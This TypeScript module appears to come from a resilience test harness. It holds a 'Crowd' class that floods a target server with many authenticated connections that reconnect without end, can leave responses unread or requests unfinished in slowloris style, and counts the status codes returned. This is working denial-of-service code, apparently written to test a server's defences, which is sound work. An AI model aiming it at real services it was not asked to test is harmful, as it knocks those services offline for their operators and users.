import { connect, type Socket } from 'node:net'
import type { Aim } from './attacker.ts'
import type { Credentials } from './users.ts'

/** What each connection of a crowd does over and over. */
export interface Conduct {
  /** The bytes of a request; asked for each time anew. */
  readonly request: () => Buffer
  /** Whether the answer is waited for, or never read, or whether the request is never finished. */
  readonly manner: 'read' | 'never read' | 'never finish'
  /** Whether each request has a connection of its own. */
  readonly reconnects?: boolean
}

/** What came of an attack. */
export interface Made {
  /** Connections that the server took. */
  readonly connections: number
  readonly text: string
}

/** How long a refused or ended connection waits before it comes again: more would be an attack on the system, not on the server. */
const AGAIN_MS = 5

/** Many connections of one user, which never tire. */
export class Crowd {
  readonly aim: Aim
  readonly #statuses = new Map<string, number>()
  #connections = 0

  constructor(aim: Aim) {
    this.aim = aim
  }

  /** What was answered, as text: how often each status. */
  get outcome(): Made {
    const statuses = [...this.#statuses].sort(([a], [b]) => (a < b ? -1 : 1))
    const answers = statuses.map(([status, count]) => `${status} x ${count}`).join(', ')
    return { connections: this.#connections, text: `${this.#connections} connections, answers: ${answers || 'none'}` }
  }

  /** The bytes of a request with credentials. */
  request(
    line: string,
    { body = Buffer.alloc(0), type = 'application/json', as = this.aim.headers }: Sent = {},
  ): Buffer {
    return Buffer.concat([this.head(line, { length: body.length, type, as }), body])
  }

  /** The head of a request whose body is sent some other way. */
  head(line: string, { length, type = 'application/json', as = this.aim.headers, more = [] }: Head): Buffer {
    const credentials = Object.entries(as).map(([name, value]) => `${name}: ${value}`)
    const bodied = length > 0 ? [`Content-Type: ${type}`, `Content-Length: ${length}`] : []
    return Buffer.from(`${[`${line} HTTP/1.1`, 'Host: a', ...credentials, ...bodied, ...more].join('\r\n')}\r\n\r\n`)
  }

  /** Lets so many connections begin. */
  send(connections: number, conduct: Conduct): void {
    for (let n = 0; n < connections; n++) setTimeout(() => this.#open(conduct), n / 2)
  }

  #open(conduct: Conduct): void {
    const { hostname, port } = new URL(this.aim.url)
    const socket = connect(Number(port), hostname)
    socket.setNoDelay(true)
    socket.on('connect', () => {
      this.#connections += 1
    })
    socket.on('error', () => this.#note('broken'))
    socket.on('close', () => setTimeout(() => this.#open(conduct), AGAIN_MS))
    socket.write(conduct.request())
    if (conduct.manner === 'never read') socket.pause()
    else this.#readAnswers(socket, conduct)
  }

  #readAnswers(socket: Socket, { request, reconnects }: Conduct): void {
    const reader = new AnswerReader()
    socket.on('data', (chunk: Buffer) => {
      for (const seen of reader.read(chunk)) {
        if (seen !== 'end') {
          this.#note(seen.status)
          if (seen.isLast) socket.destroy()
        } else if (reconnects === true) socket.destroy()
        else socket.write(request())
      }
    })
    socket.on('end', () => socket.destroy())
  }

  #note(outcome: string): void {
    this.#statuses.set(outcome, (this.#statuses.get(outcome) ?? 0) + 1)
  }
}

/** The head of an answer; `isLast` when the server ends the connection with it, and it has no body. */
interface SeenHead {
  readonly status: string
  readonly isLast: boolean
}

/** Finds the answers in the bytes of a connection: the head of each, and where it ends. */
class AnswerReader {
  /** Bytes of the body that are still to come. */
  #left = 0
  #head = ''

  #readHead(): SeenHead {
    const head = this.#head
    this.#head = ''
    this.#left = Number(/content-length: *(\d+)/i.exec(head)?.[1] ?? Number.POSITIVE_INFINITY)
    return { status: head.slice(9, 12), isLast: this.#left === 0 && /connection: *close/i.test(head) }
  }

  *read(chunk: Buffer): Generator<SeenHead | 'end'> {
    let at = 0
    while (at < chunk.length) {
      if (this.#left > 0) {
        const taken = Math.min(this.#left, chunk.length - at)
        this.#left -= taken
        at += taken
      } else {
        const end = chunk.indexOf('\r\n\r\n', at)
        this.#head += chunk.toString('latin1', at, end === -1 ? chunk.length : end)
        if (end === -1) return
        at = end + 4
        yield this.#readHead()
      }
      if (this.#left === 0) yield 'end'
    }
  }
}

interface Sent {
  readonly body?: Buffer
  readonly type?: string
  readonly as?: Credentials
}

interface Head {
  readonly length: number
  readonly type?: string
  readonly as?: Credentials
  readonly more?: readonly string[]
}
